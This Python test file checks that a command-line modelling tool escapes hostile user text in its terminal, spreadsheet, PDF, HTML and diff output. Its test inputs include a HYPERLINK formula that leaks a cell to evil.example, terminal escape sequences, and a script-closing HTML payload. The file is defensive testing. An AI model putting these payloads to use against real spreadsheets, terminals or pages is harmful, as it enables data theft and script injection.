"""User text reaches every output escaped for it: the terminal (no Rich markup read, no escape
sequence), the workbook and CSV files (no formula), figures and the PDF brief (no math text), the
explorer page (no script closed, no comment opened), and diff's tables. Each case is the real
command in a subprocess (tests/attacks.py)."""

from __future__ import annotations

import json
import re

import pytest

from attacks import PARAMS, accepted, batch, environment, formula_cells, innovsd, refused, scenario

# Markup, an escape sequence, NUL and a formula: JSON's escapes are YAML's.
HOSTILE = json.dumps('=HYPERLINK("http://evil.example/?"&A1,"click") [/] closing \x1b[31mRED\x01\x00')


@pytest.mark.slow
def test_a_hostile_title_and_file_name_are_text_everywhere_compare_writes(tmp_path):
    """Markup, an escape sequence, NUL and a formula in a title, a formula as the file name: the
    scorecard prints them as text, the workbook and CSV files hold no formula."""
    path = scenario(tmp_path, "=formula-name", "{en: " + HOSTILE + ", vi: '+cmd [/]'}")
    answer = innovsd(environment(tmp_path), "compare", str(path), "--no-figures")
    accepted(answer)
    assert "[/]" in answer["out"] and "RED" in answer["out"]  # printed as typed, less its escapes
    assert formula_cells(tmp_path / "outputs") == []


@pytest.mark.slow
def test_math_text_and_control_characters_in_a_scenario_draw_and_write_the_brief(tmp_path):
    path = scenario(tmp_path, "math", '{en: "Fund $\\\\undefinedmacro{x}$ cost\\x01", vi: "Quỹ $\\\\frac{1}{$"}',
                    '{en: "Costs $\\\\frac{1}{$"}')
    answer = innovsd(environment(tmp_path), "report", str(path), "--format", "pdf")
    accepted(answer)
    (brief,) = (tmp_path / "outputs").glob("*/brief-en.pdf")
    assert brief.stat().st_size > 10_000


@pytest.mark.slow
def test_the_explorer_page_escapes_the_text_it_carries(tmp_path):
    """A title that would end the page's script or open a comment stays inside the data."""
    title = "<!--<script>alert(1)</script> & </script>"
    path = scenario(tmp_path, "html", "{en: " + json.dumps(title) + ", vi: x}")
    small = tmp_path / "small.json"  # two draws: the grid runs in seconds
    data = json.loads(PARAMS.read_text(encoding="utf-8"))
    data["ensemble"] = {k: v[:2] for k, v in data["ensemble"].items()}
    small.write_text(json.dumps(data), encoding="utf-8")
    accepted(innovsd(environment(tmp_path), "explore", str(path), "--params", str(small)))
    (page,) = (tmp_path / "outputs").glob("*/explorer.html")
    html = page.read_text(encoding="utf-8")
    blob = re.search(r'<script id="data" type="application/json">(.*?)</script>', html, re.S).group(1)
    assert "<" not in blob and ">" not in blob and "&" not in blob
    assert json.loads(blob)["references"]["html"]["title"]["en"] == title


@pytest.mark.slow
def test_escape_sequences_and_markup_typed_on_the_command_line_are_one_clean_line(tmp_path):
    env = environment(tmp_path)
    run, setting, seek, show, kind = batch(env, [
        ["run", "\x1b]0;PWNED\x07\x1b[2J"], ["run", "--no-plot", "--set", "\x1b[31mRED\x1b[0m=1"],
        ["seek", "\x1b[2J>=3"], ["scenarios", "show", "[bold]x[/]"], ["describe", "--kind", "[/]"]])
    refused(run, "PWNED")
    refused(setting, "RED")
    refused(seek)
    refused(show, "[bold]x[/]")
    refused(kind, "--kind", "[/]")


def _run_folder(folder, target="tfp", scenario_name="baseline", parameter_file="default.json"):
    folder.mkdir(parents=True)
    (folder / "provenance.json").write_text(json.dumps({
        "model": {"file": "m.mdl", "sha256": "a"}, "parameter_set": {"file": parameter_file, "sha256": "b"},
        "ensemble_members": 720, "scenarios": {"names": [scenario_name], "sha256": "c"}}), encoding="utf-8")
    (folder / "scorecard.csv").write_text(
        "target,scenario,value,met,probability_met,first_year_met\n"
        f"{target},{scenario_name},43.5,False,0.25,\n", encoding="utf-8")
    return folder


@pytest.mark.slow
def test_diff_shows_markup_escapes_and_numbers_from_its_files_as_text(tmp_path):
    base = _run_folder(tmp_path / "base")
    markup = _run_folder(tmp_path / "markup", target="[/]", scenario_name="[/] x", parameter_file="[/]")
    escapes = _run_folder(tmp_path / "escapes", scenario_name="\x1b[2J\x1b]0;X\x07")
    numeric = _run_folder(tmp_path / "numeric", target="12345")
    answers = batch(environment(tmp_path), [["diff", str(base), str(other)] for other in (markup, escapes, numeric)])
    for answer in answers:
        accepted(answer)
    assert "[/]" in answers[0]["out"] and "12345" in answers[2]["out"]
